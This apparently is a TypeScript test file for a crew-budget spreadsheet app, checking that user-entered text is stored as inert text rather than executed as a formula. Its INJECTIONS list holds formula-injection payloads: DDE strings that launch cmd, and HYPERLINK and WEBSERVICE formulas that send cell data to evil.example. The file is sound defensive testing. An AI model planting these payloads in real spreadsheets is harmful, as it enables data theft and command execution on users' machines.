/**
 * Text a person types is stored as text on every path CrewRate writes, never as a formula: the
 * injection strings of the December 2026 reliability probe (F1, F6) go through "Add a role", an
 * inserted crew line's Person and Description, and Share as values (a Region typed as text), in
 * the preview's workbook, the downloaded .xlsx and the Excel adapter, and come out inert.
 */
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import {
  COLUMNS,
  FIRST_LINE_ROW,
  settingRow,
  SETTINGS_SHEET,
  TABLE_FIRST_ROW,
  textCell,
  type CrewLineInput,
  type ProductionRoleInput,
} from "../../src/budget";
import { engine } from "../../src/data";
import { ExcelWorkbook } from "../../src/office/excelWorkbook";
import { CREWRATE_ADDIN, workbookForXlsx } from "../../src/preview/exportWorkbook";
import { PreviewWorkbook } from "../../src/preview/previewWorkbook";
import { writeXlsx } from "../../src/preview/xlsx";
import { crewLine } from "../fixtures/crewLine";
import { colLetters, FakeExcel, isFormula } from "../fixtures/fakeExcel";

const INJECTIONS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?d="&Settings!B2,"Drone Pilot")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/x")',
  "\t=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'quoted",
];

const PERSON = COLUMNS.indexOf("Person");
const DESCRIPTION = COLUMNS.indexOf("Description");
const REGION = COLUMNS.indexOf("Region");

function roleTitled(title: string): ProductionRoleInput {
  return {
    title,
    department: "Camera",
    account: "",
    description: title,
    unit: "day",
    rate: 1200,
    agreement: "",
  };
}

function lineFor(text: string): CrewLineInput {
  return { ...crewLine("Gaffer", 2, "week"), person: text, description: text };
}

describe("textCell", () => {
  it("marks only text that a spreadsheet would read as something else", () => {
    expect(textCell("Gaffer")).toBe("Gaffer");
    expect(textCell("3201")).toBe("3201");
    for (const text of INJECTIONS) expect(textCell(text)).toBe(`'${text}`);
  });
});

describe.each(INJECTIONS)("the text %j", (text) => {
  it("stays text in the preview workbook, its values copy and its .xlsx", async () => {
    const wb = new PreviewWorkbook(engine);
    await wb.addProductionRole(roleTitled(text));
    await wb.appendCrewLines([lineFor(text)]);
    // Region typed into the (text-formatted) Settings cell.
    const settingsId = wb.sheetId(SETTINGS_SHEET);
    wb.hf.setCellContents({ sheet: settingsId, row: settingRow("Region") - 1, col: 1 }, [
      [`'${text}`],
    ]);
    await wb.shareAsValues();

    const roles = wb.sheetId("Production Roles");
    const title = { sheet: roles, row: TABLE_FIRST_ROW - 1, col: 0 };
    expect(wb.hf.doesCellHaveFormula(title)).toBe(false);
    expect(wb.hf.getCellValue(title)).toBe(text.trim());
    for (const sheet of ["Budget", "Budget (values)"]) {
      const id = wb.sheetId(sheet);
      for (const col of [PERSON, DESCRIPTION, REGION]) {
        const cell = { sheet: id, row: FIRST_LINE_ROW - 1, col };
        if (sheet === "Budget" && col === REGION) continue; // =Region, the layout's formula
        expect(wb.hf.doesCellHaveFormula(cell), `${sheet} ${colLetters(col)}`).toBe(false);
        expect(wb.hf.getCellValue(cell)).toBe(text);
      }
    }

    const parts = Object.entries(unzipSync(writeXlsx(workbookForXlsx(wb.hf, CREWRATE_ADDIN))));
    const formulas = parts
      .filter(([path]) => path.startsWith("xl/worksheets/"))
      .flatMap(([, data]) => [...strFromU8(data).matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]));
    expect(formulas.filter((f) => /evil|cmd|1\+1|SUM\(1/.test(f ?? ""))).toEqual([]);
    wb.hf.destroy();
  });

  it("stays text in Excel: the adapter writes it so that Excel does not read a formula", async () => {
    const book = new FakeExcel();
    const workbook = new ExcelWorkbook({
      departments: engine.departments.map((d) => ({ name: d.name, account: d.account })),
      run: book.run,
    });
    await workbook.ensureBudget();
    await workbook.addProductionRole(roleTitled(text));
    await workbook.appendCrewLines([lineFor(text)]);
    const row = FIRST_LINE_ROW;
    book.calculated.set(`Budget!${colLetters(REGION)}${row}`, text);
    await workbook.shareAsValues();

    const cells: [string, string][] = [
      ["Production Roles", `A${TABLE_FIRST_ROW}`],
      ["Budget", `${colLetters(PERSON)}${row}`],
      ["Budget", `${colLetters(DESCRIPTION)}${row}`],
      ["Budget (values)", `${colLetters(PERSON)}${row}`],
      ["Budget (values)", `${colLetters(REGION)}${row}`],
    ];
    for (const [sheet, address] of cells) {
      const stored = book.cell(sheet, address);
      expect(isFormula(stored), `${sheet}!${address} holds ${String(stored)}`).toBe(false);
      expect(String(stored).replace(/^'/, "")).toBe(address.startsWith("A") ? text.trim() : text);
    }
  });
});
